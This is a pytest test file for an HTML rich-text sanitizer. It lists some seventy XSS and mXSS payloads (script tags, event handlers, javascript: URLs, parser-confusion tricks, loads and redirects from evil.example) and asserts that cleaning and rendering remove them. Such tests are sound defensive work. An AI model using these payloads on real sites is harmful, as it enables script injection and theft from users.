import pytest

from seventeen_moments.core.richtext import clean, render
from tests.seventeen_moments.core.rich_text import RenderedJudge, note, offences

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p onclick=alert(1)>x</p>",
    "<p onmouseover='alert(1)' ONFOCUS=alert(1) autofocus tabindex=1>x</p>",
    "<p/onclick=alert(1)//>x</p>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
    '<a href="javascript&#0000058alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://example.org/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="https://example.org" target=_blank ping=//evil.example download>x</a>',
    '<a href="x" style="position:fixed;inset:0">x</a>',
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style>"
    "<img onerror=alert(1) src>",
    "<style>@import '//evil.example/x.css';</style>",
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf"><applet code=x></applet>',
    '<form action="//evil.example"><input name=q><button formaction="javascript:alert(1)">x</form>',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<p><b><u><i onclick=alert(1)>unclosed",
    "<a href='x'<script>alert(1)</script>",
    '<a title="<img src=x onerror=alert(1)>" href="x">x</a>',
    '<a data-source="text-1" onclick=alert(1) href="javascript:alert(1)">x</a>',
    '<a data-source="text-1&quot; onclick=&quot;alert(1)">x</a>',
    '<a data-source="javascript:alert(1)">x</a>',
    "<a data-source='text-1\"><script>alert(1)</script>'>x</a>",
    '<span data-source="text-1" data-x=1>x</span>',
    "<table onclick=alert(1) style='position:fixed' background=//evil.example/x.png>"
    "<caption onclick=alert(1)><img src=x onerror=alert(1)>a</caption><tr bgcolor=red>"
    "<td onclick=alert(1) colspan='1\" onclick=\"alert(1)' rowspan=javascript:1>x</table>",
    "<figure data-source='image-1\" onclick=\"alert(1)' onclick=alert(1)><img src=x>x</figure>",
    '<figure data-source="image-1" onclick=alert(1)><script>alert(1)</script>x</figure>',
    "<p id=r1 class=ref role=doc-noteref>x</p>",
    '<span class="ref footnote masthead" id=r1 style="color:red" data-x=1>x</span>',
    "<scr\0ipt>alert(1)</scr\0ipt><im\0g src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<script",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_does_not_survive_cleaning(attack):
    assert offences(clean(f"<p>a{attack}b</p>")) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_does_not_survive_rendering(attack):
    rendered = render(clean(f"<p>a{attack}b{note(attack)}</p>"))
    shown = [rendered.html, *rendered.notes]
    assert [offence for html in shown for offence in offences(html, RenderedJudge)] == []


def test_judge_condemns_what_is_not_clean():
    condemned = offences('<b>x</b><a href="javascript:x" onclick="y"><!--z-->')
    assert condemned == ["b", "a href=javascript:x", "a onclick=y", "comment z"]
